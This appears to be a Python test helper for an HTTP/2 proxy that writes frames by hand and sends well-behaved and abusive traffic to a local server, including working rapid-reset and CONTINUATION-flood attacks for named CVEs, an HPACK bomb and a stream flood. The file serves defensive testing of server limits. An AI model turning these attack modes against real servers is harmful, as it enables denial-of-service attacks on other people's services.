#!/usr/bin/python3
"""HTTP/2 clients for the proxy tests, well-behaved and abusive, over TLS with ALPN h2.

Frames are written by hand (RFC 9113 4.1), header blocks by the hpack package, so each
attack is exactly what it says. Usage: h2_client.py MODE PORT [COUNT]; prints one JSON
line with what the server did:
  rapid-reset N    N streams, each HEADERS then RST_STREAM at once (CVE-2023-44487)
  continuation N   one HEADERS without END_HEADERS, then up to N small CONTINUATIONs (CVE-2024-28182)
  hpack-bomb N     one 4000-byte header put in the dynamic table, then N one-byte references to it
  big-headers N    a request with an N-byte header (over the limit), then a normal one
  stream-flood N   N streams opened (a POST whose body never comes), none ever finished
  paced N          well-behaved: a GET on stream 1, answered, then N ms later a GET on stream 3
"""
import json
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Decoder, Encoder

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Client:
    def __init__(self, port):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock = context.wrap_socket(raw, server_hostname="shop.test")
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("ALPN chose %r, not h2" % self.sock.selected_alpn_protocol())
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.buffer = b""
        self.goaway = None      # the GOAWAY's error code
        self.closed = False
        self.statuses = {}      # stream -> :status
        self.resets = {}        # stream -> RST_STREAM error code
        self.ended = set()      # streams whose response ended

    def request_block(self, extra=()):
        return self.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/")] + list(extra))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout, OSError):
            self.closed = True
            return False

    def poll(self, wait=0.0):
        """Reads what has arrived (waiting up to `wait` s for the first bytes) and handles its frames."""
        deadline = time.monotonic() + wait
        while not self.closed:
            pending = self.sock.pending()
            timeout = 0 if pending else max(0.0, deadline - time.monotonic())
            if not pending and not select.select([self.sock], [], [], timeout)[0]:
                return
            try:
                data = self.sock.recv(65536)
            except (ConnectionResetError, ssl.SSLError, OSError):
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self.frames()
            deadline = time.monotonic()   # then only what is already there

    def frames(self):
        while len(self.buffer) >= 9:
            length = struct.unpack(">I", b"\0" + self.buffer[:3])[0]
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = struct.unpack(">I", self.buffer[5:9])[0] & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST_STREAM:
                self.resets[stream] = struct.unpack(">I", payload[:4])[0]
            elif kind == HEADERS:
                for name, value in self.decoder.decode(payload):
                    if name in (b":status", ":status"):
                        self.statuses[stream] = int(value)
                if flags & END_STREAM:
                    self.ended.add(stream)
            elif kind == DATA and flags & END_STREAM:
                self.ended.add(stream)

    def finish(self, seconds=5.0):
        """Waits for the GOAWAY or the close."""
        deadline = time.monotonic() + seconds
        while not self.closed and self.goaway is None and time.monotonic() < deadline:
            self.poll(0.1)

    def headers(self, stream, block, flags):
        """One header block: HEADERS, and CONTINUATIONs when it is over one frame."""
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
        out = b""
        for i, piece in enumerate(pieces):
            last = END_HEADERS if i == len(pieces) - 1 else 0
            out += frame(HEADERS if i == 0 else CONTINUATION, (flags if i == 0 else 0) | last, stream, piece)
        return out


def rapid_reset(client, count):
    sent = 0
    for stream in range(1, 2 * count, 2):
        if not client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, client.request_block()) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))):
            break
        sent += 1
        if sent % 50 == 0:
            client.poll()
            if client.goaway is not None or client.closed:
                break
    client.finish()
    return {"streams": sent}


def continuation(client, count):
    sent = 0
    if client.send(frame(HEADERS, 0, 1, client.request_block())):
        for i in range(count):
            if not client.send(frame(CONTINUATION, 0, 1, client.encoder.encode([("x-c%d" % i, "v" * 40)]))):
                break
            sent += 1
            if sent % 10 == 0:
                client.poll()
                if client.goaway is not None or client.closed:
                    break
    client.finish()
    return {"frames": sent}


def hpack_bomb(client, count):
    block = client.request_block([("x-bomb", "a" * 4000)]) + b"\xbe" * count   # 0xbe: the newest table entry, x-bomb
    client.send(client.headers(1, block, END_STREAM))
    client.finish()
    return {"block_bytes": len(block)}


def big_headers(client, count):
    client.send(client.headers(1, client.request_block([("x-big", "b" * count)]), END_STREAM))
    client.send(client.headers(3, client.request_block(), END_STREAM))
    deadline = time.monotonic() + 10
    while len(client.ended | set(client.resets)) < 2 and not client.closed and time.monotonic() < deadline:
        client.poll(0.1)
    return {"status_1": client.statuses.get(1), "status_3": client.statuses.get(3)}


def stream_flood(client, count):
    sent = 0
    post = [(":method", "POST"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/echo")]
    for stream in range(1, 2 * count, 2):
        if not client.send(frame(HEADERS, END_HEADERS, stream, client.encoder.encode(post))):
            break
        sent += 1
        if sent % 50 == 0:
            client.poll(0.05)
            if client.goaway is not None or client.closed:
                break
    client.finish()
    refused = sum(1 for code in client.resets.values() if code == 7)
    return {"streams": sent, "refused": refused}


def paced(client, pause_ms):
    out = {}
    for stream in (1, 3):
        if stream == 3:
            time.sleep(pause_ms / 1000)
        client.send(client.headers(stream, client.request_block(), END_STREAM))
        deadline = time.monotonic() + 10
        while stream not in client.ended and not client.closed and time.monotonic() < deadline:
            client.poll(0.1)
        out["status_%d" % stream] = client.statuses.get(stream)
        out["goaway_after_%d" % stream] = client.goaway
    client.finish()
    return out


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    client = Client(port)
    client.poll(0.5)
    result = {"rapid-reset": rapid_reset, "continuation": continuation, "hpack-bomb": hpack_bomb,
              "big-headers": big_headers, "stream-flood": stream_flood, "paced": paced}[mode](client, count)
    result["goaway"] = client.goaway
    result["closed"] = client.closed
    print(json.dumps(result))


if __name__ == "__main__":
    main()
